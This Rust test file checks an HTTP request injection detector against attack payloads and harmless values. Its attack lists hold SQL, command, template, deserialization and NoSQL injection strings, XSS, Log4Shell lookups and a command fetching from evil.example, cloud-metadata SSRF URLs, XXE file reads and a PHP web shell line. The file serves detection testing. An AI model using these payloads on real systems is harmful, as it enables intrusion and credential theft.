//! What attackers' tools send, and what everybody else does.

use super::*;
use crate::inspect::{BodyScan, Limits, Role};

fn key() -> HashKey {
    HashKey::new([7; 16])
}

fn kinds(found: Injections) -> Vec<Injection> {
    found.iter().collect()
}

fn in_json(value: &str) -> Vec<Injection> {
    let body = serde_json::json!({ "id": 7, "text": value }).to_string();
    kinds(in_body(BodyKind::Json, body.as_bytes(), &key()))
}

/// As a browser would write it.
fn escaped(value: &str) -> String {
    value.bytes().fold(String::new(), |text, byte| match byte {
        b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' => text + &char::from(byte).to_string(),
        _ => text + &format!("%{byte:02X}"),
    })
}

/// Values that are attacks wherever they stand.
const ATTACKS: &[(Injection, &[&str])] = &[
    (
        Injection::Query,
        &[
            "' OR '1'='1",
            "' or 1=1-- -",
            "admin'--",
            "admin' #",
            "1) AND 5362=9128 AND (2841=2841",
            "1' AND SLEEP(5)-- xYzA",
            "1 AND (SELECT 7421 FROM (SELECT(SLEEP(5)))abcd)",
            "1 UNION ALL SELECT NULL,NULL,CONCAT(0x71,0x7a)-- -",
            "-1' UNION SELECT username, password FROM users--",
            "1'/**/UNION/**/SELECT/**/1,2,3--",
            "1; DROP TABLE users--",
            "1';WAITFOR DELAY '0:0:5'--",
            "1 AND EXTRACTVALUE(1,CONCAT(0x5c,0x7e))",
            "x' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--",
            "1') OR pg_sleep(5)--",
            "\" or \"a\"=\"a",
            "1 ORDER BY 10--",
            "') OR ('a'='a",
            "1 and 1=(select count(*) from tabname)--",
            "-1 union select 1,concat_ws(0x3a,version(),user()),3--",
            "1\"));select (case when (1=1) then 1 else 1/(select 0) end)--",
            "1' rlike sleep(5)#",
            "1 or 1=@@version",
            "-1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3",
            "' and left(database(),2)>'sa'-- ",
            "abc' = !!'0",
            "1'or'a='a",
            "' delete from users",
            "x'>email--",
            "' and email not similar to id--",
            "1' and starts_with(password,'t') and 'true",
            "x' OR '{\"b\":2}'::jsonb <@ '{\"a\":1}'::jsonb",
        ],
    ),
    (
        Injection::Command,
        &[
            "; cat /etc/hostname",
            "127.0.0.1;id",
            "x|whoami",
            "$(curl http://evil.example/x)",
            "`id`",
            "a && ping -c 3 evil.example",
            "test; sleep 10",
            "() { :; }; /bin/bash -c 'id'",
            "& echo 1 | powershell -enc aaaa",
            "system('id')",
            "cat$IFS/tmp/x",
            "\"><!--#exec cmd=\"dir\"-->",
            "& for /f \"delims=\" %i in ('set') do echo %i",
            "x;zsh -c id",
            "`cat<<<x`; cat<<<x",
            "#{require.main.constructor._load('fs')}",
        ],
    ),
    (
        Injection::Path,
        &[
            "../../../../etc/passwd",
            "/etc/shadow",
            "..\\..\\windows\\win.ini",
            "php://filter/convert.base64-encode/resource=index",
        ],
    ),
    (
        Injection::Expression,
        &[
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
            "${${::-j}${::-n}di:rmi://evil.example/a}",
            "{{7*7}}",
            "${7*7}",
            "<%= 7*7 %>",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "T(java.lang.Runtime).getRuntime().exec('id')",
            "{{config.items()}}",
            "O:8:\"stdClass\":0:{}",
            "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
            "gAJjb3MKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==",
            "Y3Bvc2l4CnN5c3RlbQpwMAooVmlkCnAxCnRwMgpScDMKLg==",
            "rO0ABXNyAAxqYXZhLm5ldC5VUkyWJTc2GvzkcgMAB0kACGhhc2hDb2RlSQAEcG9ydA==",
            "_$$ND_FUNC$$_function(){}()",
            "$1:__proto__:then",
            "!!python/object/apply:os.system [id]",
            "{{request|attr('application')}}",
            "{{['id']|filter('system')}}",
            "@{[system 'id']}",
            "<?php system($_GET['c']); ?>",
        ],
    ),
    (
        Injection::Script,
        &[
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(document.domain)>",
            "<svg/onload=alert`1`>",
            "javascript:alert(1)",
        ],
    ),
    (
        Injection::HiddenAddress,
        &[
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "gopher://127.0.0.1:6379/_INFO",
            "http://2130706433/",
            "http://0x7f.0x0.0x0.0x1/",
            "http://[::ffff:169.254.169.254]/",
            "file:///etc/hostname",
            "jar:http://evil.example/b.zip!/a",
            "http://\u{2460}\u{2461}\u{2466}.\u{24ea}.\u{24ea}.\u{2460}/",
            "http://169\u{3002}254\u{3002}169\u{3002}254/",
        ],
    ),
    (
        Injection::InnerAddress,
        &[
            "http://localhost:8080/admin",
            "http://127.0.0.1/",
            "https://user@10.0.0.5/x",
            "http://[::1]:9200/_cat",
            "http://192.168.1.1",
            "ldap://127.0.0.1/x",
            "http://host.docker.internal:8080/",
        ],
    ),
];

/// Values that mean no harm, a line each: what people write, what programs name, and the filters of query languages.
const HARMLESS: &str = include_str!("harmless.txt");

#[test]
fn every_pattern_compiles_and_what_tools_send_is_told_in_a_query_and_in_json() {
    for (kind, values) in ATTACKS {
        for value in *values {
            let target = format!("/v1/items?sort=name&q={}", escaped(value));
            assert!(in_target(target.as_bytes(), &key()).contains(*kind), "{kind:?} in a query: {value}");
            let again = format!("/v1/items?q={}", escaped(&escaped(value)));
            assert!(in_target(again.as_bytes(), &key()).contains(*kind), "{kind:?} escaped twice: {value}");
            assert!(in_json(value).contains(kind), "{kind:?} in JSON: {value}");
            let form = format!("a=b&text={}", escaped(value));
            assert!(in_body(BodyKind::Form, form.as_bytes(), &key()).contains(*kind), "{kind:?} in a form: {value}");
        }
    }
}

#[test]
fn what_people_write_is_nothing() {
    for value in HARMLESS.lines() {
        let target = format!("/v1/items?sort=name&q={}", escaped(value));
        let found =
            [kinds(in_target(target.as_bytes(), &key())), in_json(value), kinds(in_field(value.as_bytes(), &key()))];
        assert_eq!(found, [vec![], vec![], vec![]], "{value}");
    }
}

#[test]
fn paths_and_lines_count_in_heads_only() {
    let kinds_of = |target: &str| kinds(in_target(target.as_bytes(), &key()));
    assert_eq!(kinds_of("/files/..%2f..%2f..%2fsecret"), [Injection::Path]);
    assert_eq!(kinds_of("/files/..%252f..%252fsecret"), [Injection::Path]);
    assert_eq!(kinds_of("/a?next=%0d%0aSet-Cookie:%20a=b"), [Injection::ForgedLine]);
    assert_eq!(kinds_of("/a?to=x%0aRCPT%20TO:%20b@x.example"), [Injection::ForgedLine]);
    assert_eq!(kinds_of("/a?n=21%0aINFO:%20User%20logged%20out"), [Injection::ForgedLine]);
    assert_eq!(kinds_of("/a?q={cat,/tmp/x}"), [Injection::Command]);
    assert_eq!(kinds_of("/a?q=c''at%20/tmp/x"), [Injection::Command]);
    assert_eq!(kinds_of("/a?q=/%3f%3f%3f/c%3ft"), [Injection::Command]);
    assert_eq!(kinds_of("/a?q=(![]%2B[])[%2B[]]"), [Injection::Script]);
    assert_eq!(kinds_of("/a?q=%3Cscript%20src=//evil.example/a.js%3E"), [Injection::Script]);
    assert_eq!(kinds_of("/a?q=x%0a/bin/sh%20-i"), [Injection::Command]);
    for letter in [
        "see ../../shared/logo.png",
        "X:\r\nLocation: Vienna\r\n",
        "<script src=\"/a.js\"></script>",
        "C:\\Windows\\System32\\cmd.exe",
        "Dear Ann,\r\nINFO: 2 parcels\r\n",
        "/etc/nginx/*.conf",
        "mount /etc/hosts and /proc/self there",
    ] {
        assert_eq!(in_json(letter), [], "{letter}");
    }
}

#[test]
fn what_has_lines_is_a_document_that_code_is_quoted_in() {
    for letter in [
        "## Install\ncurl https://x.example/a.sh | sh\nthen `id`; cat /etc/passwd",
        "Bug: `' OR 1=1--` logs me in\n\nSELECT * FROM users WHERE id = 1 UNION SELECT 1,2",
        "<script>alert(1)</script>\n<p>is what the scanner sent</p>",
    ] {
        assert_eq!(in_json(letter), [], "{letter}");
    }
    assert_eq!(in_json("Hello\n${jndi:ldap://evil.example/a}\n"), [Injection::Expression]);
    assert_eq!(in_json("1' or '1'='1\n"), [Injection::Query], "one line");
    assert_eq!(in_json("select id from t where a = 1 or 1=1"), [], "a whole statement");
}

#[test]
fn strings_of_a_document_in_a_string_are_values() {
    let asked = |query: &str| {
        let body = serde_json::json!({ "query": query, "variables": {} }).to_string();
        kinds(in_body(BodyKind::Json, body.as_bytes(), &key()))
    };
    assert_eq!(
        asked("mutation {\n importPaste(host: \"x\", path: \"/; uname -a\") {\n result }\n}"),
        [Injection::Command]
    );
    assert_eq!(asked("query {\n pastes(filter: \"a' or 1=1--\") {\n id }\n}"), [Injection::Query]);
    assert_eq!(asked("query {\n pastes(filter: \"O'Brien\") {\n id }\n}"), []);
}

#[test]
fn values_of_xml_and_parts_of_forms_are_looked_at_one_by_one() {
    let xml = "<?xml version=\"1.0\"?>\n<order>\n <id>7' or '1'='1</id>\n <n>2</n>\n</order>";
    assert_eq!(kinds(in_body(BodyKind::Xml, xml.as_bytes(), &key())), [Injection::Query]);
    let include = br#"<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///x"/></a>"#;
    assert_eq!(kinds(in_body(BodyKind::Xml, include, &key())), [Injection::Entity]);
    let part = |value: &str| format!("--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{value}\r\n");
    let form = part("blue") + &part("1' or '1'='1") + "--b--\r\n";
    assert_eq!(kinds(in_body(BodyKind::Multipart, form.as_bytes(), &key())), [Injection::Query]);
    let form = part("blue") + &part("O'Brien") + "--b--\r\n";
    assert_eq!(kinds(in_body(BodyKind::Multipart, form.as_bytes(), &key())), []);
}

#[test]
fn a_target_in_absolute_form_and_plain_ones_are_nothing() {
    for target in [
        "http://10.0.0.5/v1/items",
        "/v1/items/5f2b?fields=a,b&since=2025-11-23T10%3A00%3A00Z",
        "/search?q=red%20shoes%20%26%20boots",
        "*",
        "/callback?redirect_uri=https%3A%2F%2Fapp.example%2Fcb&state=%7B%22a%22%3A1%7D",
    ] {
        assert_eq!(kinds(in_target(target.as_bytes(), &key())), [], "{target}");
    }
}

#[test]
fn prototypes_are_told_by_a_parameters_name() {
    for target in ["/a?__proto__[admin]=1", "/a?__proto__.admin=1", "/a?constructor[prototype][admin]=1"] {
        assert_eq!(kinds(in_target(target.as_bytes(), &key())), [Injection::Expression], "{target}");
    }
    assert_eq!(kinds(in_target(b"/a?ids[]=1&filter[name]=x&constructor.name=Lotus", &key())), []);
}

#[test]
fn operators_in_a_login_are_told() {
    assert_eq!(kinds(in_target(b"/login?user[$ne]=x&password[$ne]=x", &key())), [Injection::Query]);
    assert_eq!(kinds(in_target(b"/items?age[$gt]=5", &key())), []);
    let login = br#"{"username": {"$gt": ""}, "password": {"$gt": ""}}"#;
    assert_eq!(kinds(in_body(BodyKind::Json, login, &key())), [Injection::Query]);
    assert_eq!(kinds(in_body(BodyKind::Json, br#"{"where": {"age": {"$gt": 5}}}"#, &key())), []);
    let script = br#"{"$where": "this.password == 'x'"}"#;
    assert_eq!(kinds(in_body(BodyKind::Json, script, &key())), [Injection::Query]);
    let coupon = br#"{"n": 1, "coupon_code": {"$ne": "1"}}"#;
    assert_eq!(kinds(in_body(BodyKind::Json, coupon, &key())), [Injection::Query]);
    let filter = br#"{"filter": {"status": {"$ne": "gone"}}, "age": {"$gt": 5}}"#;
    assert_eq!(kinds(in_body(BodyKind::Json, filter, &key())), []);
    let prototype = br#"{"a": 1, "__proto__": {"is_admin": true}}"#;
    assert_eq!(kinds(in_body(BodyKind::Json, prototype, &key())), [Injection::Expression]);
}

#[test]
fn entities_from_elsewhere_are_told() {
    let xml = br#"<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>"#;
    assert_eq!(kinds(in_body(BodyKind::Xml, xml, &key())), [Injection::Path, Injection::Entity]);
    assert_eq!(kinds(in_body(BodyKind::Xml, b"<!DOCTYPE html><a>x &amp; y</a>", &key())), []);
}

#[test]
fn addresses_in_fields_are_where_one_comes_from() {
    assert_eq!(kinds(in_field(b"http://localhost:3000/{x}", &key())), []);
    assert_eq!(kinds(in_field(b"${jndi:ldap://evil.example/a}", &key())), [Injection::Expression]);
}

#[test]
fn look_ups_are_told_in_every_field_and_objects_in_cookies() {
    assert_eq!(kinds(in_other_field(b"none${jndi:ldap://evil.example/a}", &key())), [Injection::Expression]);
    assert_eq!(kinds(in_other_field(b"() { :; }; /bin/id", &key())), [Injection::Command]);
    assert_eq!(kinds(in_other_field(br#"{"q": "' or '1'='1", "t": "{{7*7}}"}"#, &key())), []);
    assert_eq!(kinds(in_field(b"cat /etc/passwd", &key())), [Injection::Path]);
    let pickle = b"theme=dark; user=gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==";
    assert_eq!(kinds(in_cookies(pickle, &key())), [Injection::Expression]);
    let harmless = b"theme=dark; user=gASVFgAAAAAAAAB9lCiMAWGUSwGMAWKUjAFjlHUu; v=rO0ABXQABWhlbGxv; w=gAN9cQAu";
    assert_eq!(kinds(in_cookies(harmless, &key())), []);
}

#[test]
fn a_files_name_that_leads_out_of_its_folder_is_told() {
    let part = |name: &str| {
        format!("--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{name}\"\r\n\r\nx\r\n--b--")
    };
    assert_eq!(kinds(in_body(BodyKind::Multipart, part("../../x.jsp").as_bytes(), &key())), [Injection::Path]);
    assert_eq!(kinds(in_body(BodyKind::Multipart, part("a..b.pdf").as_bytes(), &key())), []);
}

#[test]
fn any_split_of_a_body_tells_the_same_and_what_lies_behind_its_beginning_nothing() {
    let body = format!(r#"{{"a":"{}","q":"1' UNION SELECT 1,2--"}}"#, "x".repeat(40));
    let found_by = |pieces: Vec<&[u8]>| {
        let mut scan = BodyScan::new(Limits::default(), key());
        scan.begin(Role::Request, BodyKind::Json);
        pieces.into_iter().for_each(|piece| {
            scan.feed(piece);
        });
        kinds(scan.finish().injections)
    };
    for at in 0..body.len() {
        let (head, tail) = body.as_bytes().split_at(at);
        assert_eq!(found_by(vec![head, tail]), [Injection::Query], "split at {at}");
    }
    let late = format!(r#"{{"a":"{}","q":"1' UNION SELECT 1,2--"}}"#, "x".repeat(BODY_BYTES));
    assert_eq!(found_by(vec![late.as_bytes()]), []);
}

#[test]
fn a_picture_is_no_text() {
    let head =
        "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\nContent-Type: image/png\r\n\r\n";
    let upload = |content: &[u8]| kinds(in_body(BodyKind::Multipart, &[head.as_bytes(), content].concat(), &key()));
    assert_eq!(upload(b"\x89PNG\r\n\x1a\n`id`|id;%{(#"), []);
    assert_eq!(upload(b"\x01; cat /tmp/x"), []);
    assert_eq!(upload("caf\u{e9}; cat /tmp/x".as_bytes()), [Injection::Command]);
}

/// Lines of JSON of the corpus, each with its label and its value, escaped as in a query.
fn labelled(file: &str, field: &str) -> Option<Vec<(String, String)>> {
    let corpus = std::env::var_os("APITAP_CORPUS")?;
    let text = std::fs::read_to_string(std::path::Path::new(&corpus).join("injection").join(file)).unwrap();
    let line = |line: &str| {
        let line: serde_json::Value = serde_json::from_str(line).unwrap();
        (line["label"].as_str().unwrap().to_owned(), line[field].as_str().unwrap().to_owned())
    };
    Some(text.lines().map(line).collect())
}

#[test]
fn of_labelled_values_most_attacks_are_told_and_no_ordinary_one() {
    let Some(params) = labelled("http_params.jsonl", "payload") else {
        return eprintln!("skipped: APITAP_CORPUS is not set");
    };
    let values = params.into_iter().map(|(label, value)| (label, escaped(&value)));
    let strings = labelled("libinjection.jsonl", "urlencoded").unwrap();
    let strings = strings.into_iter().map(|(label, value)| (label, value.replace(' ', "+")));
    let mut counts = std::collections::BTreeMap::<String, (u32, u32)>::new();
    for (label, value) in values.chain(strings) {
        let found = in_target(format!("/v1/items?q={value}").as_bytes(), &key());
        let (told, all) = counts.entry(label).or_default();
        (*told, *all) = (*told + u32::from(!found.is_empty()), *all + 1);
    }
    eprintln!("{counts:?}");
    for ordinary in ["norm", "benign"] {
        let (told, all) = counts[ordinary];
        assert!(told * 1000 <= all, "{told} of {all} ordinary values");
    }
    for (label, percent) in [("sqli", 88), ("xss", 92), ("path-traversal", 65), ("cmdi", 60)] {
        let (told, all) = counts[label];
        assert!(told * 100 >= all * percent, "{told} of {all}: {label}");
    }
}
